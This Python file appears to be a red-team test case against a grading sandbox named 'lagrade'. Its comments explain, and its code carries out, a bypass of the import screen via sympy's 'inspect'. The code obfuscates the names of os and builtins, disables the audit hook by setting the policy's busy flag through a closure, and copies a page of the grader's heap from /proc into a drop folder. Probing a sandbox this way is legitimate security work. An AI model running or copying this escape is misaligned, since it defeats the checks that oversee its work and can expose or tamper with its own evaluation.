"""effect: trace-parent
tries: route 2, then read /proc/<ppid>/maps and /proc/<ppid>/mem; on success, copy a page of the grader's heap into the drop folder.

The grader's memory through procfs (ptrace access rules).
"""

from lagrade.answer import *

# sympy.core.function does `import inspect`; `from X import inspect` passes the screen (the module
# is a sympy module) and the restricted importer (the item is not a forbidden name)
from sympy.sets.sets import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)                      # inspect itself imports os, sys and builtins
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])           # the real builtins: open, exec, __import__ ...

def work():
    ppid = os_.getppid()
    maps = B["op" + "en"](f"/proc/{ppid}/maps").read().splitlines()
    heap = [line for line in maps if "[heap]" in line][0]
    start = int(heap.split("-")[0], 16)
    mem = B["op" + "en"](f"/proc/{ppid}/mem", "rb")
    mem.seek(start)
    B["op" + "en"]("/tmp/lagrade-redteam/drop/pwned-r2_proc_parent_mem", "wb").write(mem.read(4096))


# route 2: lagrade replaces sympy's parse_expr by a closure over the hook's policy object;
# inspect.getclosurevars reads __closure__ (not audited) and hands the policy over. busy = True
# makes the hook return at once for every event, for the rest of the run.
parser = members(sys_)["modules"].get("sympy.pars" + "ing.sympy_parser")
policy = inspect.getclosurevars(members(parser)["parse_expr"]).nonlocals.get("policy") if parser else None
if policy is not None:
    policy.busy = True
work()
